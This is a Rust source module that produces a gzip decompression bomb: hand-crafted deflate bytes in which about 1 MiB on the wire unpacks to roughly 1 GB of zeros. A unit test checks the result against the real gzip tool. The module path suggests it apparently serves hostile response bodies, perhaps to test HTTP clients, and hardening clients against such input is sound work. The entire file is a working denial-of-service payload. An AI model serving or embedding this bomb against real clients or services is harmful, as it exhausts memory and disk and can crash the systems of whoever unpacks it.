//! A gzip bomb that needs no compressor: in the one deflate block below, two zero bits mean "258 zeros more", so that a
//! byte of zeros on the wire is a kilobyte of zeros in memory.

use bytes::Bytes;

use crate::practice::body::Step;

/// Header of the file; head of the block with its two codes, the first zero and three and a half repetitions.
const PREFIX: &[u8] =
    &[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff, 0xed, 0xc0, 0x81, 0, 0, 0, 0, 0x80, 0xa0, 0xfd, 0xa9, 0x17, 0xa9, 0];
/// Four repetitions a byte.
const ZEROS: Bytes = Bytes::from_static(&[0; 64 << 10]);
/// As often as that is sent: 1 MiB.
const TIMES: usize = 16;
/// The last half repetition and the end of the block; CRC-32 and size.
const SUFFIX: &[u8] = &[0x06, 0x0b, 0x01, 0x40, 0x36, 0x09, 0x04, 0x80, 0x40];

/// Bytes on the wire.
pub(super) const LENGTH: usize = PREFIX.len() + TIMES * (64 << 10) + SUFFIX.len();
/// Bytes in the memory of who unpacks it.
#[cfg(test)]
const UNPACKED: u32 = 1_082_131_465;

/// The bomb in pieces.
pub(super) fn steps() -> impl Iterator<Item = Step> + Send {
    let zeros = std::iter::repeat_n(ZEROS, TIMES);
    let all = std::iter::once(Bytes::from_static(PREFIX)).chain(zeros).chain([Bytes::from_static(SUFFIX)]);
    all.map(Step::Data)
}

#[cfg(test)]
mod tests {
    use std::{
        io::{Read as _, Write as _},
        process::{Command, Stdio},
    };

    use super::*;

    #[test]
    fn gzip_unpacks_it() {
        let bytes: Vec<u8> = steps()
            .flat_map(|step| match step {
                Step::Data(bytes) => bytes,
                other => panic!("{other:?}"),
            })
            .collect();
        assert_eq!(bytes.len(), LENGTH);
        assert_eq!(bytes[LENGTH - 4..], UNPACKED.to_le_bytes());
        let Ok(mut gzip) = Command::new("gzip").arg("-dc").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn() else {
            return println!("skipped: gzip is not installed");
        };
        let mut input = gzip.stdin.take().expect("it is piped");
        let writer = std::thread::spawn(move || input.write_all(&bytes));
        let (mut output, mut buffer, mut total) = (gzip.stdout.take().expect("it is piped"), vec![0; 1 << 20], 0_u64);
        loop {
            let count = output.read(&mut buffer).expect("it is piped");
            if count == 0 {
                break;
            }
            total += count as u64;
        }
        writer.join().expect("it writes").expect("it is read");
        assert!(gzip.wait().expect("it ends").success(), "gzip checks size and sum");
        assert_eq!(total, u64::from(UNPACKED));
    }
}
